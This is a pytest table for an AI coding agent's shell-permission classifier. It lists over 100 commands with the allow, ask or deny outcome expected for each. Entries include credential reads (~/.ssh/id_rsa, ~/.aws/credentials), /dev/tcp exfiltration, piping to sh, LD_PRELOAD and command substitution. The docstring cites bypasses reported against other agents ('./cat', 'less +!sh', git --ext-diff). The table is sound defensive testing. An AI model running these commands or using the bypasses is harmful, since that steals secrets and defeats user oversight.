"""An adversarial table of shell lines through the real Bash tool and the permission engine, default mode
(issue 10, finding 9). "Read-only" must mean harmless: a reader that names a path outside the working folder
(argument, `<`, `~`, `..`, a glob or a symlink that leads out, a `cd` target) is decided like a Read of that
path; options that write or run programs are never read-only; what can't be known before it runs asks.
Includes the bypasses reported against other agents' classifiers that apply here: path-qualified readers
(`./cat`, Codex), pager start-up commands (`less +!`, Qwen Code), unquoted globs that may expand to a flag,
Read rules applied to shell reads, and `git diff --ext-diff` / `tree -o` / `hostname NAME` (this issue)."""

from __future__ import annotations

from typing import Any

import pytest

from tui_agent.core.permission_types import PermissionCheck
from tui_agent.tools.bash import BashTool

A, ASK, D = "allow", "ask", "deny"

# (command, expected, rules). `{outside}` is a folder beside the project; `out_link` points into it.
CASES: list[tuple[str, str, dict[str, list[str]]]] = [
    # --- inside the working folder, read-only: no question
    ("ls", A, {}),
    ("ls -la src", A, {}),
    ("cat src/a.py", A, {}),
    ("head -n 5 src/a.py", A, {}),
    ("tail -n 3 src/a.py", A, {}),
    ("wc -l src/*.py", A, {}),
    ("grep -rn x src", A, {}),
    ("grep -r '/etc/passwd' src", A, {}),  # the pattern is not a path
    ("rg -n needle", A, {}),
    ("rg -e /etc src", A, {}),
    ("find . -name '*.py'", A, {}),
    ("find src -type f", A, {}),
    ("git status", A, {}),
    ("git log --oneline -n 5", A, {}),
    ("git diff HEAD -- src", A, {}),
    ("git show HEAD:src/a.py", A, {}),
    ("echo /etc/passwd", A, {}),  # echo names no file
    ("printf '%s\\n' ~/.ssh/id_rsa", A, {}),
    ("pwd", A, {}),
    ("cd src && ls", A, {}),
    ("cd src && cat a.py", A, {}),
    ("cat src/../src/a.py", A, {}),
    ("stat src/a.py", A, {}),
    ("du -sh src", A, {}),
    ("jq . data.json", A, {}),
    ("cut -d / -f 1 src/a.py", A, {}),
    ("sort src/a.py | uniq -c", A, {}),
    ("diff src/a.py src/a.py", A, {}),
    ("tree src", A, {}),
    ("hostname", A, {}),
    ("hostname -f", A, {}),
    ("date +%Y", A, {}),
    ("cat secret_link/k", A, {}),  # a symlink that stays inside
    ("ls 2>/dev/null", A, {}),
    ("echo $HOME", A, {}),
    ("which git", A, {}),
    ("diff <(ls src) <(ls secrets)", A, {}),
    ("cat < src/a.py", A, {}),
    ("file src/a.py", A, {}),
    ("md5sum src/a.py", A, {}),
    # --- read-only, but naming a path outside: a question (denied headless)
    ("cat ~/.ssh/id_rsa", ASK, {}),
    ("ls ~/.ssh", ASK, {}),
    ("grep -r x /", ASK, {}),
    ("find /", ASK, {}),
    ("cat ../outside/f", ASK, {}),
    ("cat {outside}/f", ASK, {}),
    ("cat out_link/f", ASK, {}),
    ("ls out_link", ASK, {}),
    ("cat out_*/f", ASK, {}),
    ("cat *_link/*", ASK, {}),
    ("cd .. && cat outside/f", ASK, {}),
    ("cd / && cat etc/passwd", ASK, {}),
    ("cd && cat .bashrc", ASK, {}),
    ("cd out_link && cat f", ASK, {}),
    ("cd src && cat ../../outside/f", ASK, {}),
    ("cat < /etc/passwd", ASK, {}),
    ("head -n1 /etc/passwd", ASK, {}),
    ("git -C .. status", ASK, {}),
    ("git --git-dir=/tmp/x log", ASK, {}),
    ("git diff --no-index /etc/passwd src/a.py", ASK, {}),
    ("grep -f /etc/passwd src", ASK, {}),
    ("grep --file=/etc/passwd src", ASK, {}),
    ("grep -f/etc/passwd src", ASK, {}),
    ("date -f ~/.ssh/id_rsa", ASK, {}),  # prints each line in "invalid date" errors
    ("date -r /etc/passwd", ASK, {}),
    ("du -sh ~", ASK, {}),
    ("stat /etc/shadow", ASK, {}),
    ("tail -f /var/log/syslog", ASK, {}),
    ("jq . ~/.aws/credentials", ASK, {}),
    ("echo $(cat ~/.ssh/id_rsa)", ASK, {}),
    ("sort ~/.netrc", ASK, {}),
    ("ls ../", ASK, {}),
    ("cat /proc/self/environ", ASK, {}),
    ("cat < /dev/tcp/127.0.0.1/80", ASK, {}),
    ("readlink -f ~/.ssh", ASK, {}),
    ("diff ~/.ssh/id_rsa /dev/null", ASK, {}),
    ("rg secret ~", ASK, {}),
    ("find .. -name id_rsa", ASK, {}),
    ("cat ./../outside/f", ASK, {}),
    ("tree -a /", ASK, {}),
    ("column /etc/passwd", ASK, {}),
    ("wc ~/.ssh/id_rsa", ASK, {}),
    ("ls src && cat ~/.ssh/id_rsa", ASK, {}),
    # --- writes, runs programs, or can't be known before it runs: never read-only
    ("git diff --ext-diff", ASK, {}),
    ("git log -p --ext-diff", ASK, {}),
    ("git show --textconv", ASK, {}),
    ("git diff --output=x", ASK, {}),
    ("git diff -Oorder.txt", ASK, {}),
    ("git log --show-signature", ASK, {}),
    ("git -c core.pager=x log", ASK, {}),
    ("git --exec-path=/tmp log", ASK, {}),
    ("git branch new", ASK, {}),
    ("tree -o out.txt", ASK, {}),
    ("tree -R -H .", ASK, {}),
    ("hostname evil", ASK, {}),
    ("hostname -F src/a.py", ASK, {}),
    ("sort -o out src/a.py", ASK, {}),
    ("sort --compress-program=sh src/a.py", ASK, {}),
    ("find . -exec rm {} \\;", ASK, {}),
    ("find . -delete", ASK, {}),
    ("find . -fprint out", ASK, {}),
    ("find . -name *.py", ASK, {}),  # an unquoted glob could expand to `-delete`
    ("sed -i s/a/b/ src/a.py", ASK, {}),
    ("cat $HOME/.ssh/id_rsa", ASK, {}),
    ("cat ${HOME}/x", ASK, {}),
    ("cat \"$HOME\"", ASK, {}),
    ("cat {~/.ssh/id_rsa,src/a.py}", ASK, {}),
    ("cat ~+/x", ASK, {}),
    ("cat `echo /etc/passwd`", ASK, {}),
    ("./cat src/a.py", ASK, {}),  # a path-qualified "reader" is whatever that file is
    ("/bin/cat src/a.py", ASK, {}),
    ("less +!sh src/a.py", ASK, {}),
    ("rg --pre ./x needle", ASK, {}),
    ("date -s 2020-01-01", ASK, {}),
    ("uniq src/a.py out", ASK, {}),
    ("env LD_PRELOAD=x ls", ASK, {}),
    ("LD_PRELOAD=x ls", ASK, {}),
    ("echo x > out", ASK, {}),
    ("ls > /dev/tcp/1.2.3.4/80", ASK, {}),
    ("cat src/a.py | sh", ASK, {}),
    ("xargs cat < src/a.py", ASK, {}),
    ("awk '{print}' src/a.py", ASK, {}),
    ("file -C -m x", ASK, {}),
    ("for f in *; do cat $f; done", ASK, {}),
    ("cd - && cat x", ASK, {}),
    ("eval cat x", ASK, {}),
    ("source x; cat y", ASK, {}),
    ("git diff $REF", ASK, {}),
    ("echo ${x:-$(rm y)}", ASK, {}),
    # --- rules: Read rules decide shell reads; a Bash rule does not vouch for an outside path
    ("cat {outside}/f", A, {"allow": ["Read(/{outside}/**)"]}),
    ("cat ~/.ssh/id_rsa", ASK, {"allow": ["Read(~/notes/**)"]}),
    ("cat ~/notes/n.md", A, {"allow": ["Read(~/notes/**)"]}),
    ("cat {outside}/f", ASK, {"allow": ["Bash(cat *)"]}),
    ("cat secrets/k", D, {"deny": ["Read(./secrets/**)"]}),
    ("grep -r key .", A, {"deny": ["Read(./secrets/**)"]}),  # the search folder itself is not denied
    ("cat {outside}/f", D, {"allow": ["Read(/{outside}/**)"], "deny": ["Read(/{outside}/f)"]}),
    ("cd secrets && cat k", D, {"deny": ["Read(./secrets/**)"]}),
    ("cat {outside}/f", A, {"allow": ["Bash"]}),  # the whole tool, as the user wrote it
]


@pytest.mark.parametrize("command, expected, rules", CASES, ids=[f"{i:03d}-{c[0][:40]}" for i, c in enumerate(CASES)])
async def test_read_only_shell_table(env, monkeypatch, command: str, expected: str, rules: dict[str, list[str]]) -> None:
    monkeypatch.setenv("HOME", str(env.home))

    def fill(s: str) -> str:
        return s.replace("{outside}", str(env.outside))

    env.write(env.project_settings, {"permissions": {k: [fill(r) for r in v] for k, v in rules.items()}})
    tool = BashTool()
    inp: Any = tool.Input(command=fill(command))
    check = PermissionCheck(tool, inp, {"command": inp.command}, "toolu_1", env.workspace, tool.is_read_only(inp))
    decision = await env.engine().decide(check)
    assert decision.behavior == expected, decision


def test_table_is_big_enough() -> None:
    assert len(CASES) >= 100
    assert len({(c[0], str(c[2])) for c in CASES}) == len(CASES)
